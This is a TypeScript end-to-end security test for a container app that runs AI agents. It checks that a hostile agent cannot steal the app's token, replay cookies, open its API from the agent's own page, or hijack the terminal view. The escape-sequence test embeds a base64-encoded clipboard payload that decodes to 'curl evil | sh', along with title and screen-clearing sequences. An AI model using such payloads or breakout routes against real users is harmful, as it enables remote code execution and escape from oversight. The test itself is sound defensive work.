import crypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import type Docker from 'dockerode';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { WebSocket } from 'ws';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { PAGE_META_POLICY } from '../../core/api/csp.ts';
import { down, up } from '../../core/compose/launcher.ts';
import { nodeHost, validateConfigText } from '../../core/config/load.ts';
import { resolveWorkspace } from '../../core/config/resolve.ts';
import { connectDocker } from '../../core/docker/connect.ts';
import { tempHome } from '../support/cli.ts';
import { TEST_BASE_IMAGE, describeWithDocker } from '../support/docker.ts';
import { launchChromium, startServe, type ServeProcess } from './harness.ts';

/** Opens the API socket as a client that is not a browser would (it may send any header), and says how it went. */
function openSocket(url: string, headers: Record<string, string>): Promise<'open' | number> {
  return new Promise((resolve) => {
    const ws = new WebSocket(url, { headers });
    ws.on('open', () => {
      ws.close();
      resolve('open');
    });
    ws.on('unexpected-response', (_request, response) => resolve(response.statusCode ?? 0));
    ws.on('error', () => resolve(-1));
  });
}

/**
 * What a hostile agent can reach through the user's browser and the app: the port it publishes
 * on 127.0.0.1 (the browser sends it what it sends every 127.0.0.1 port), and the output view.
 */
describeWithDocker('a hostile agent against the app in Chromium', () => {
  const id = crypto.randomBytes(3).toString('hex');
  const ws = `hostile-e2e-${id}`;
  let sandbox: ReturnType<typeof tempHome>;
  let docker: Docker;
  let serve: ServeProcess;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let agentPort: http.Server;
  let agentOrigin: string;
  const received: Array<{ url: string; headers: http.IncomingHttpHeaders }> = [];
  const cspMessages: string[] = [];

  beforeAll(async () => {
    sandbox = tempHome();
    const project = path.join(sandbox.home, 'project');
    fs.mkdirSync(project, { recursive: true });
    fs.chownSync(project, 1000, 1000);
    const text = `[base]\nfrom = "${TEST_BASE_IMAGE}"\nvariant = "minimal"\n[workspaces.${ws}]\npaths = ["${project}"]\nagent = "shell"\n`;
    fs.mkdirSync(path.dirname(sandbox.config), { recursive: true });
    fs.writeFileSync(sandbox.config, text);
    docker = (await connectDocker()).docker;
    // Stands in for the workspace's published port: whatever the agent serves there, it logs what the browser sends it.
    agentPort = http.createServer((request, response) => {
      received.push({ url: request.url ?? '', headers: request.headers });
      response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
      response.end('<!doctype html><title>agent</title><p>the agent’s page</p>');
    });
    await new Promise<void>((resolve) => agentPort.listen(0, '127.0.0.1', resolve));
    agentOrigin = `http://127.0.0.1:${(agentPort.address() as { port: number }).port}`;
    serve = await startServe({ PATH: process.env.PATH, HOME: sandbox.home, PADDOCK_CONFIG: sandbox.config, NO_COLOR: '1', ...(process.env.DOCKER_HOST ? { DOCKER_HOST: process.env.DOCKER_HOST } : {}) });
    browser = await launchChromium();
    context = await browser.newContext({ viewport: { width: 1280, height: 860 } });
    await context.addInitScript(`document.addEventListener('securitypolicyviolation', (event) => console.error('CSP violation: ' + event.violatedDirective + ' ' + event.blockedURI))`);
    page = await context.newPage();
    page.on('console', (message) => {
      if (/Content Security Policy|CSP violation|Refused to/i.test(message.text())) cspMessages.push(message.text());
    });
    const host = nodeHost(sandbox.home);
    const workspace = resolveWorkspace(validateConfigText(text, sandbox.config, host).config, ws, host);
    await up(workspace, {
      docker,
      cacheDir: path.join(sandbox.home, '.cache', 'paddock'),
      dataDir: path.join(sandbox.home, '.local', 'share', 'paddock'),
      home: sandbox.home,
      env: process.env,
      exists: (file) => fs.existsSync(file),
    });
  }, 600_000);

  afterAll(async () => {
    await browser?.close();
    await serve?.stop();
    await new Promise((resolve) => agentPort?.close(resolve));
    await down(ws, { docker, dataDir: path.join(sandbox.home, '.local', 'share', 'paddock'), volumes: true }).catch(() => undefined);
    sandbox?.cleanup();
  }, 120_000);

  it("sends the agent's port nothing that opens the API, after the app has been used in the same browser", async ({ annotate }) => {
    await page.goto(serve.url);
    await page.getByText('Docker connected').waitFor();
    expect(page.url()).not.toContain('token');
    // The user opens what the agent serves on its port, in the same browser.
    const visit = await context.newPage();
    await visit.goto(`${agentOrigin}/`);
    await visit.evaluate(`fetch('/probe', { credentials: 'include' })`);
    await expect.poll(() => received.length).toBeGreaterThanOrEqual(2);
    await annotate(`what the browser sent the agent's port: ${JSON.stringify(received)}`);
    expect(JSON.stringify(received)).not.toContain(serve.token);
    // An attacker replays all it got, with any Origin a non-browser client may claim.
    const cookies = received.map((request) => request.headers.cookie).filter((cookie): cookie is string => Boolean(cookie));
    for (const cookie of [...new Set(cookies), '']) {
      for (const origin of [undefined, serve.origin, agentOrigin]) {
        const headers: Record<string, string> = { ...(cookie ? { cookie } : {}), ...(origin ? { origin } : {}) };
        // 403 is the Origin check; with the server's own Origin, only the missing token refuses it.
        expect(await openSocket(`ws://127.0.0.1:${serve.port}/api`, headers), JSON.stringify(headers)).toBe(origin === agentOrigin ? 403 : 401);
      }
    }
    // The agent's page itself, in the browser, cannot open the API either.
    const fromPage = await visit.evaluate(`new Promise((resolve) => {
      const socket = new WebSocket('ws://127.0.0.1:${serve.port}/api');
      socket.onopen = () => resolve('open');
      socket.onclose = () => resolve('refused');
    })`);
    expect(fromPage).toBe('refused');
    await visit.close();
  });

  it('keeps the app working on a reload and in its views, with the token held by the page', async () => {
    await page.reload();
    await page.getByText('Docker connected').waitFor();
    await page.goto(`${serve.origin}/#/settings`);
    await page.getByText('Docker connected').waitFor();
    expect(page.url()).toBe(`${serve.origin}/#/settings`);
    // The page carries its own CSP too, first in its head; with serve's header beside it nothing is refused (see cspMessages).
    expect(await page.evaluate(`document.head.firstElementChild.outerHTML`)).toBe(`<meta http-equiv="Content-Security-Policy" content="${PAGE_META_POLICY}">`);
    const stranger = await browser.newContext();
    try {
      const visitor = await stranger.newPage();
      const response = await visitor.goto(`${serve.origin}/`);
      expect(response?.status()).toBe(401);
      expect(await visitor.textContent('body')).toContain('Paddock needs its token');
      expect(await visitor.locator('#root').count()).toBe(0);
    } finally {
      await stranger.close();
    }
  });

  it("shows the agent's escape sequences in the output view as inert text", async () => {
    const ESC = '\u001b';
    const attack = [`${ESC}[31mred warning${ESC}[0m`, `${ESC}]52;c;Y3VybCBldmlsIHwgc2gK\u0007clipboard-after`, `${ESC}]0;owned title${ESC}\\title-after`, `${ESC}[2J${ESC}[Hcursor-after`, `${ESC}P+q544e${ESC}\\dcs-after`];
    const exec = await docker.getContainer(`paddock-${ws}-agent-1`).exec({ User: '1000:1000', Cmd: ['sh', '-c', 'printf "%s\\n" "$@" > /proc/1/fd/1', 'sh', ...attack] });
    await exec.start({ Detach: true });
    await expect.poll(async () => (await exec.inspect()).ExitCode).toBe(0);
    await page.goto(`${serve.origin}/#/instances/${ws}`);
    const log = page.getByRole('log', { name: `Output of ${ws}` });
    await log.getByText('dcs-after').waitFor({ timeout: 20_000 });
    const text = (await log.textContent()) ?? '';
    expect(text).toContain('red warning');
    expect(text).toContain('␛]52;c;Y3VybCBldmlsIHwgc2gK␇clipboard-after');
    expect(text).toContain('␛]0;owned title␛\\title-after');
    expect(text).toContain('␛P+q544e␛\\dcs-after');
    expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(await page.title()).not.toContain('owned');
    expect(cspMessages).toEqual([]);
  });
});
